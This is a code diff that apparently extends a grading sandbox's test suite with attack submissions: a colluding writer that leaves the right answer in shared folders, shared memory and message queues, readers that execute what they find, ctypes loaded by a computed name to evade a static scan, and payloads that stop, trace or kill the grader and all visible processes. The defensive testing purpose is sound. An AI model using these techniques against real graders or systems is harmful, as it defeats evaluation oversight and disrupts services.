@@ -246,3 +246,179 @@ SANDBOX_ATTACKS = {
 # What every further assignment is also graded with (the rest is the same machinery each time).
 QUICK_KERNEL_ATTACKS = ("replaces comparison functions", "replaces the checks helpers through vars()",
                         "returns objects that claim equality", "empties its test cells")
+
+
+# Two submissions of one grading run working together: a writer (graded first, with the right answer)
+# leaves its code wherever it can; each reader (a wrong answer) looks in one place and runs what it finds.
+# ctypes is loaded by a computed name, past the static scan (which withholds the score of `import ctypes`), so
+# that only the sandbox stands between these submissions and the points.
+SHARED_FOLDERS = ("/run/lock", "/var/lock", "/var/tmp", "/dev/shm", "/tmp", "/dev/mqueue", "/run", "/home", "/")
+SHM_KEY, MSG_KEY, SEM_KEY = 0x6263_0001, 0x6263_0002, 0x6263_0003
+
+WRITER = """
+import importlib, os
+ctypes = importlib.import_module("c" + "types")
+_code = {code!r}.encode()
+for _folder in {folders!r}:
+    try:
+        with open(os.path.join(_folder, "answer-{f}.py"), "wb") as _file:
+            _file.write(_code)
+        os.chmod(os.path.join(_folder, "answer-{f}.py"), 0o666)
+    except OSError:
+        pass
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = ctypes.c_void_p
+_id = _libc.shmget({shm}, 1 << 16, 0o1666)
+if _id >= 0:
+    _at = _libc.shmat(_id, None, 0)
+    if _at not in (None, ctypes.c_void_p(-1).value):
+        ctypes.memmove(_at, _code + b"\\0", len(_code) + 1)
+_queue = _libc.msgget({msg}, 0o1666)
+if _queue >= 0:
+    _message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + len(_code))
+    ctypes.memmove(ctypes.addressof(_message), ctypes.byref(ctypes.c_long(1)), ctypes.sizeof(ctypes.c_long))
+    ctypes.memmove(ctypes.addressof(_message) + ctypes.sizeof(ctypes.c_long), _code, len(_code))
+    _libc.msgsnd(_queue, _message, len(_code), 0o4000)
+_libc.semget({sem}, 1, 0o1666)
+try:
+    from multiprocessing import shared_memory, resource_tracker
+    _block = shared_memory.SharedMemory(name="answer-{f}", create=True, size=len(_code) + 1)
+    _block.buf[:len(_code)] = _code
+    resource_tracker.unregister(_block._name, "shared_memory")
+except (OSError, ImportError):
+    pass
+try:
+    _rt = ctypes.CDLL("librt.so.1", use_errno=True)
+    _rt.mq_open.restype = ctypes.c_int
+    _mq = _rt.mq_open(b"/answer-{f}", 0o102, 0o666, None)
+    if _mq >= 0:
+        _rt.mq_send(_mq, _code[:8000], len(_code[:8000]), 0)
+except OSError:
+    pass
+"""
+
+READ_FOLDER = """
+import os
+for _folder in {folders!r}:
+    try:
+        exec(open(os.path.join(_folder, "answer-{f}.py")).read())
+        break
+    except OSError:
+        pass
+"""
+
+READ_SYSV_SHM = """
+import importlib
+ctypes = importlib.import_module("c" + "types")
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = ctypes.c_void_p
+_id = _libc.shmget({shm}, 0, 0)
+if _id >= 0:
+    _at = _libc.shmat(_id, None, 0o10000)
+    if _at not in (None, ctypes.c_void_p(-1).value):
+        exec(ctypes.string_at(_at).decode())
+"""
+
+READ_SYSV_MSG = """
+import importlib
+ctypes = importlib.import_module("c" + "types")
+_libc = ctypes.CDLL(None, use_errno=True)
+_queue = _libc.msgget({msg}, 0)
+if _queue >= 0:
+    _message = ctypes.create_string_buffer(1 << 16)
+    _size = _libc.msgrcv(_queue, _message, (1 << 16) - 16, 0, 0o4000)
+    if _size > 0:
+        exec(_message.raw[ctypes.sizeof(ctypes.c_long):ctypes.sizeof(ctypes.c_long) + _size].decode())
+"""
+
+READ_SYSV_SEM = """
+import importlib
+ctypes = importlib.import_module("c" + "types")
+if ctypes.CDLL(None).semget({sem}, 0, 0) >= 0:
+    # The semaphore carries one bit: the other submission is there, so its answer file is too.
+    for _folder in {folders!r}:
+        try:
+            exec(open(_folder + "/answer-{f}.py").read())
+        except OSError:
+            pass
+"""
+
+READ_SHARED_MEMORY = """
+from multiprocessing import shared_memory
+try:
+    _block = shared_memory.SharedMemory(name="answer-{f}")
+    exec(bytes(_block.buf).split(b"\\0")[0].decode())
+except OSError:
+    pass
+"""
+
+READ_POSIX_MQ = """
+import importlib
+ctypes = importlib.import_module("c" + "types")
+_rt = ctypes.CDLL("librt.so.1", use_errno=True)
+_mq = _rt.mq_open(b"/answer-{f}", 0o4000)
+if _mq >= 0:
+    _message = ctypes.create_string_buffer(1 << 16)
+    _size = _rt.mq_receive(_mq, _message, 1 << 16, None)
+    if _size > 0:
+        exec(_message.raw[:_size].decode())
+"""
+
+# Stop or trace the grader (its pid as the test sees it, and the pids around it) and every process in sight.
+SIGNALS = """
+import importlib, os, signal
+ctypes = importlib.import_module("c" + "types")
+_libc = ctypes.CDLL(None, use_errno=True)
+_targets = set(range(max(2, {grader_pid} - 50), {grader_pid} + 3000)) | {{int(p) for p in os.listdir("/proc") if p.isdigit()}}
+_targets -= {{os.getpid(), 1}}
+for _pid in sorted(_targets):
+    for _signal in (signal.SIGSTOP, signal.SIGTERM):
+        try:
+            os.kill(_pid, _signal)
+        except OSError:
+            pass
+    _libc.ptrace(16, _pid, None, None)
+os.kill(-1, signal.SIGCONT)
+"""
+
+KILL_EVERYTHING = """
+import os, signal
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+    os.killpg(0, signal.SIGSTOP)
+except OSError:
+    pass
+"""
+
+
+def _channels(function):
+    return {"folders": SHARED_FOLDERS, "shm": SHM_KEY, "msg": MSG_KEY, "sem": SEM_KEY, "f": function}
+
+
+def writer(student_nb, answers, function, wrong, context):
+    """The colluding submission: the right answer, left where another submission might find it."""
+    code = WRITER.format(code=answers[function], **_channels(function))
+    return grading.make_submission(student_nb, {**answers, function: answers[function] + "\n" + code})
+
+
+def reader(template, **override):
+    def build(student_nb, answers, function, wrong, context):
+        channels = {**_channels(function), **override}
+        return grading.make_submission(student_nb, _answer(answers, function, wrong, template.format(**channels, **context)))
+    return build
+
+
+SANDBOX_WRITERS = {"leaves its right answer in every shared place": writer}
+
+SANDBOX_ATTACKS.update({
+    "runs the answer another submission left in /run/lock or /var/lock": reader(READ_FOLDER, folders=("/run/lock", "/var/lock")),
+    "runs the answer another submission left in /var/tmp or /tmp": reader(READ_FOLDER, folders=("/var/tmp", "/tmp")),
+    "runs the answer another submission left in /dev/shm, /run, /home or /": reader(READ_FOLDER, folders=("/dev/shm", "/run", "/home", "/")),
+    "runs the answer another submission left in System V shared memory": reader(READ_SYSV_SHM),
+    "runs the answer another submission sent through a System V message queue": reader(READ_SYSV_MSG),
+    "sees a System V semaphore of another submission": reader(READ_SYSV_SEM),
+    "runs the answer another submission left in multiprocessing.shared_memory": reader(READ_SHARED_MEMORY),
+    "runs the answer another submission sent through a POSIX message queue": reader(READ_POSIX_MQ),
+    "stops, kills and traces the grader and every process in sight": reader(SIGNALS),
+    "kills its parent and stops its process group": code_attack(KILL_EVERYTHING),
+})
